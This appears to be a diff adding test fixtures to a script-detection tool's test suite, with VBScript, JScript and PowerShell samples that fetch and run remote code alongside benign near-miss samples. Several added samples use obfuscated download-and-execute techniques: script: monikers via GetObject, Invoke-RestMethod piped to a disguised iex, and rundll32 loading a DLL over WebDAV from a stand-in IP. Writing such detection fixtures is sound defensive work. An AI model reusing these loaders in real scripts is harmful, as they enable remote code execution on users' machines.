@@ -218,3 +218,27 @@ WScript.Echo(net.UserDomain + "\\\\" + net.UserName);
 ]]></script></job>
 """
 ENCODED_VBE = screnc.encode("MsgBox \"Hello\"\r\nWScript.Quit\r\n")
+
+# Code that runs other code straight from the Internet, and neighbours that fetch, or run, but not both.
+MONIKER_VBS = """Dim parts, where
+parts = Array("script", "http", "//192.0.2.7/notes.sct")
+where = Join(parts, ":")
+Set component = GetObject(where)
+"""
+MONIKER_JS = """var w = ["/words.sct", "192.0.2.7", "script:http://"].reverse().join("");
+GetObject(w);
+"""
+PULL_PS1 = """$where = ('{1}{0}' -f '192.0.2.7/words.txt', 'http://')
+$words = (Invoke-RestMethod -Uri $where).Trim()
+& ('i' + 'ex') $words
+"""
+WEBDAV_VBS = """server = "192.0.2.7@" & CStr(40 * 2)
+CreateObject("WScript.Shell").Run "rundll32.exe \\\\" & server & "\\share\\words.dll,Show", 0
+"""
+FETCH_PS1 = """$rates = Invoke-RestMethod -Uri 'https://rates.example/daily.csv'
+$rates | Set-Content -Path 'C:\\data\\rates.csv'
+Start-Process notepad.exe 'C:\\data\\rates.csv'
+"""
+SHARE_VBS = """CreateObject("WScript.Shell").Run "\\\\files.corp.example\\tools\\setup.exe /s", 1, True
+Set service = GetObject("winmgmts:\\\\.\\root\\cimv2")
+"""
